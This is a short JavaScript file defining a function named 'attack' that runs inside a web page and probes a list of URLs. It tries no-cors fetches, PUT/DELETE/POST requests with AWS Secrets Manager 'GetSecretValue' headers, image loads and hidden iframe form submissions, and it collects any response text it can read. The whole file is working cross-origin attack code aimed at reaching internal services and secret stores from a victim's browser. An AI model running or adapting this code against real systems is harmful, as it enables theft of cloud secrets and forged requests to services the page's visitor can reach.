// Runs in a website's page: tries every way to reach each URL, and answers with what it could read.
globalThis.attack = async (urls, forms) => {
  const read = [];
  const attempt = async (url, init) => {
    const answer = await fetch(url, init).catch(() => undefined);
    if (answer?.ok && answer.type !== "opaque") read.push(`${init.method} ${url} ${await answer.text()}`);
  };
  for (const url of urls) {
    for (const method of ["GET", "HEAD", "POST"]) {
      await attempt(url, { method, mode: "no-cors", ...(method === "POST" && { body: "[]" }) });
    }
    const headers = {
      "content-type": "application/x-amz-json-1.1",
      "x-amz-target": "secretsmanager.GetSecretValue",
    };
    for (const method of ["PUT", "DELETE", "POST"]) await attempt(url, { method, headers, body: "[]" });
    await attempt(url, { method: "GET" });
    await new Promise((resolve) => {
      const image = new Image();
      image.onload = resolve;
      image.onerror = resolve;
      image.src = url;
    });
    for (const enctype of forms) {
      await new Promise((resolve) => {
        const frame = document.createElement("iframe");
        frame.name = `frame-${Math.random()}`;
        document.body.append(frame);
        frame.onload = resolve;
        const form = Object.assign(document.createElement("form"), { method: "POST", action: url, enctype });
        form.target = frame.name;
        for (const [name, value] of [
          ["key", "incoming/form.csv"],
          ["Action", "GetSecretValue"],
          ["file", "id,a"],
        ]) {
          form.append(Object.assign(document.createElement("input"), { name, value }));
        }
        document.body.append(form);
        form.submit();
      });
    }
  }
  return read;
};
